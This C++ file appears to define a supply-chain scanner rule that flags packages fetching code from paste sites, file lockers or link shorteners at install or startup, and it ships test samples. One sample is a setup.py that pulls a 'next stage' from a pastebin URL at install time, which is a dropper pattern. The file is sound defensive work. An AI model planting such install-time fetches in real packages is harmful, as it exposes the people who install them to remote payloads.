#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

bool is_origin(HostKind kind) {
  return kind == HostKind::paste || kind == HostKind::file_share || kind == HostKind::shortener;
}

Severity severity_of(const Action& action, HostKind kind) {
  switch (moment_of(action)) {
    case Moment::install:
    case Moment::startup: return Severity::critical;
    case Moment::import: return kind == HostKind::shortener ? Severity::medium : Severity::high;
    default: return Severity::low;
  }
}

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (action.act != Act::fetch && action.act != Act::send) continue;
    if (!is_shipped(action)) continue;
    const HostKind kind = destination_of(action.target).kind;
    if (!is_origin(kind)) continue;
    findings.add(
        severity_of(action, kind), action.where,
        sentence("fetches from " + std::string(to_string(kind)) + ", " + shown_target(action) + ",",
                 action),
        action.steps);
  }
}

}  // namespace

extern constinit const Rule fetches_from_shady_origin = {
    .id = "fetches-from-shady-origin",
    .title = "The package fetches from a paste site, file locker or link shortener",
    .why =
        "What is fetched can be changed by whoever holds the link, without a new release and "
        "without a trace. Droppers keep their next stage there.",
    .harmless_when =
        "Sample data in a demonstration, or a service that the package is a client "
        "of.",
    .severity = Severity::high,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "a setup script fetches its next stage from a paste",
     .expect = "setup.py:3",
     .bundle = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: widget
Version: 1.0.0
==> setup.py
import requests
from setuptools import setup
stage = requests.get("https://pastebin.com/raw/00000000").text
setup(name="widget", version="1.0.0")
)"},
    {.name = "a release is fetched from the project's own host",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const https = require("https");
https.get("https://downloads.example.test/tool-1.0.0.tar.gz");
)"},
};
extern const std::span<const Sample> fetches_from_shady_origin_samples = samples;
#endif

}  // namespace assay::rules
